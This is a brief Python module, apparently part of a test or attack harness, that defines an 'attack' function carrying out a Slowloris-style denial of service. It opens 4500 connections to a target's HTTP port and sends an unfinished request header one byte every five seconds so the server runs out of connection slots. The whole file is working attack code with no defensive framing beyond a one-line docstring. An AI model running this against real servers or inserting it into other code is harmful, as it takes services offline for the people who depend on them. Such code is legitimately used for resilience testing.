"""Heads of requests that arrive byte by byte, on more connections than the HTTP port takes."""
from swarm import Swarm, Wait


def attack(target, deadline):
    def script(number):
        yield b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
        while True:
            yield Wait(5)
            yield b"x"
    Swarm(target.http, 4500, script, addresses=target.addresses).run(deadline)
